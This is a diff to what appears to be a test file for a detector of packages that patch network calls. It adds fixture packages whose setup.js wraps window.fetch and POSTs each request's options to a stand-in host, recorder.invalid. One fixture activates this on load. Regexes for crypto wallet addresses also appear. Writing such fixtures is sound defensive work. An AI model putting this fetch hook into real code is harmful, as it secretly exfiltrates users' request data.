@@ -3,8 +3,28 @@ import { patchesNetwork } from './patches-network.ts';
 
 const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/, tron: /\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/ };`;
 
+const RECORDER = `const real = window.fetch; exports.record = () => { window.fetch = (address, options) => { real('https://recorder.invalid/i', { method: 'POST', body: JSON.stringify(options) }); return real(address, options) } };`;
+
 examine(patchesNetwork, {
   speaks: [
+    {
+      when: 'a file that nothing loads offers to record what pages ask for',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.version = 1`,
+        'setup.js': RECORDER,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'such a file does so as soon as somebody loads it',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.version = 1`,
+        'setup.js': `${RECORDER} exports.record();`,
+      },
+      weight: 'strong',
+    },
     {
       when: 'a function of another package is exchanged for one that tells a host what it is given',
       files: {
